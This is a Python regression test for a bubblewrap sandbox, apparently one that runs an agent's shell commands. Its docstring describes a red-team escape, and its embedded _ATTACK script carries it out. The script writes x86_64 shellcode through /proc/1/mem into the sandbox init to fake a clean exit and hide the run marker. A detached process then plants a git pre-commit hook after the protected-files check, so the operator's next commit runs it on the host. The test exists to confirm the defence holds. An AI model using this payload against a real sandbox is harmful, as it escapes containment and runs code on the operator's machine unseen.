"""Red team, round 15: a per-command bwrap's init, patched by its command, outlived the command.

One bwrap per command runs bwrap's own init as pid 1 of the command's pid namespace, under the
command's uid and dumpable: the command can write its code through ``/proc/1/mem`` (round 12 left
this open, "it gains nothing else"). The attack: leave a detached process that plants an
executable ``.git/hooks/pre-commit`` 0.3 s after the command ended, then patch the init, at the
return of the ``wait4`` it sleeps in, to clear its parent-death signal, close its stdio, write
exit code 0 to the eventfd the outer bwrap waits on, and pause for ever; overwrite its run
marker. The command
"ended" with 0, the protected-files check after it found nothing, the namespace lived on (the
host's marker sweep no longer found it), and the hook landed after the check: the next
command's check took it for the operator's own edit between commands and kept it -- code the
operator's next ``git commit`` runs on the host. Until the session's close (the session cgroup,
root only); a non-root caller has no such cgroup.

Since round 41 (bwrap4) the C starter puts the command in a Landlock domain of its own, so it can
no longer open the init's memory at all; this test runs without the starter (no compiler, the
path where the init stays writable) to keep the host's pin of the init tested.
"""

from __future__ import annotations

import os
import platform
from collections.abc import AsyncIterator
from pathlib import Path

import anyio
import pytest

from sandbox import BwrapConfig, SandboxPolicy, _bwrap_starter
from sandbox.bwrap import BwrapBackend
from shellrt.supervisor import Supervisor
from tests._bwrap_session import require_bwrap, supervised

pytestmark = [pytest.mark.anyio, pytest.mark.bwrap]

#: The hostile command (x86_64 machine code for the init's patch).
_ATTACK = r"""
import os, struct, sys, time
delay, target, token = float(sys.argv[1]), sys.argv[2], sys.argv[3]
r, w = os.pipe()
command = os.getpid()
if os.fork() == 0:
    os.setsid()
    if os.fork():
        os._exit(0)
    null = os.open("/dev/null", os.O_RDWR)
    for n in (0, 1, 2):
        os.dup2(null, n)
    os.write(w, b"x")
    sys.argv[0] = token
    while True:  # until the command has ended (and was reaped), then a little more
        try:
            os.kill(command, 0)
        except ProcessLookupError:
            break
        time.sleep(0.01)
    time.sleep(delay)
    os.makedirs(os.path.dirname(target), exist_ok=True)
    with open(target, "w") as f:
        f.write("#!/bin/sh\necho planted after the command ended\n")
    os.chmod(target, 0o755)
    open(target + ".done", "w").close()
    time.sleep(60)
    os._exit(0)
os.read(r, 1)
pc = int(open("/proc/1/syscall").read().split()[-1], 16)
evfd = next(int(n) for n in os.listdir("/proc/1/fd") if "eventfd" in os.readlink(f"/proc/1/fd/{n}"))
stat = open("/proc/1/stat", "rb").read().rsplit(b")", 1)[1].split()
env_start, env_end = int(stat[47]), int(stat[48])
close = b"".join(b"\xbf" + struct.pack("<I", n) + b"\xb8\x03\x00\x00\x00\x0f\x05" for n in (0, 1, 2))
code = (
    b"\xbf\x01\x00\x00\x00\x31\xf6\xb8\x9d\x00\x00\x00\x0f\x05"  # prctl(PR_SET_PDEATHSIG, 0)
    + close                                                      # close(0); close(1); close(2)
    + b"\x6a\x01\x48\x89\xe6\xbf" + struct.pack("<I", evfd)      # push 1; rsi = rsp; edi = evfd
    + b"\xba\x08\x00\x00\x00\xb8\x01\x00\x00\x00\x0f\x05"        # write(evfd, &1, 8): "exit 0"
    + b"\xb8\x22\x00\x00\x00\x0f\x05\xeb\xf7"                    # for (;;) pause();
)
fd = os.open("/proc/1/mem", os.O_RDWR)
env = os.pread(fd, env_end - env_start, env_start)
at = env.find(b"SHELLRT_RUN_ID=")
if at >= 0:
    os.pwrite(fd, b"X" * 14, env_start + at)
os.pwrite(fd, code, pc)
print("patched", flush=True)
"""


def _running(token: str) -> list[int]:
    found = []
    for pid in filter(str.isdigit, os.listdir("/proc")):
        try:
            argv0 = Path(f"/proc/{pid}/cmdline").read_bytes().split(b"\0")[0]
        except OSError:
            continue
        if argv0 == token.encode():
            found.append(int(pid))
    return found


@pytest.fixture(scope="module")
def anyio_backend() -> str:
    return "asyncio"


@pytest.fixture(scope="module")
async def per_command(tmp_path_factory: pytest.TempPathFactory) -> AsyncIterator[tuple[Path, Supervisor]]:
    require_bwrap()
    base = tmp_path_factory.mktemp("rt15outlive")
    ws = base / "ws"
    (ws / ".git" / "hooks").mkdir(parents=True)
    (ws / "attack.py").write_text(_ATTACK)
    with pytest.MonkeyPatch.context() as patch:  # no C starter: the init stays writable (round 41)
        patch.setattr(_bwrap_starter, "starter_program_fd", lambda: "no C compiler (the test says so)")
        backend = BwrapBackend(BwrapConfig(persistent=False), SandboxPolicy(workspace=ws))
        async with supervised(backend, base / "session") as sup:
            yield ws, sup


@pytest.mark.skipif(platform.machine() != "x86_64", reason="the attack's machine code is x86_64")
async def test_a_patched_bwrap_init_does_not_outlive_its_command(
    per_command: tuple[Path, Supervisor],
) -> None:
    ws, sup = per_command
    hook = ws / ".git" / "hooks" / "pre-commit"
    token = f"rt15-planter-{os.getpid()}"
    try:
        result = await sup.run(f"python3 attack.py 0.3 .git/hooks/pre-commit {token}", timeout_s=30)
        assert result.exit_code == 0, result.preview
        assert "patched" in result.preview
        assert not hook.exists(), "planted before the command ended (the test's delay is too short)"
        # Long enough for the planter (0.3 s after the command's end) to have acted, were it alive.
        with anyio.move_on_after(1.2):
            while not (ws / ".git" / "hooks" / "pre-commit.done").exists():
                await anyio.sleep(0.05)
        later = await sup.run("true", timeout_s=30)
        assert later.exit_code == 0
        assert not hook.exists(), (
            "a process of an ended command planted a git hook after the protected-files check, "
            f"and the next check kept it as the operator's: {later.preview!r}"
        )
        assert _running(token) == [], "a process of an ended command is still running"
    finally:
        for pid in _running(token):
            os.kill(pid, 9)
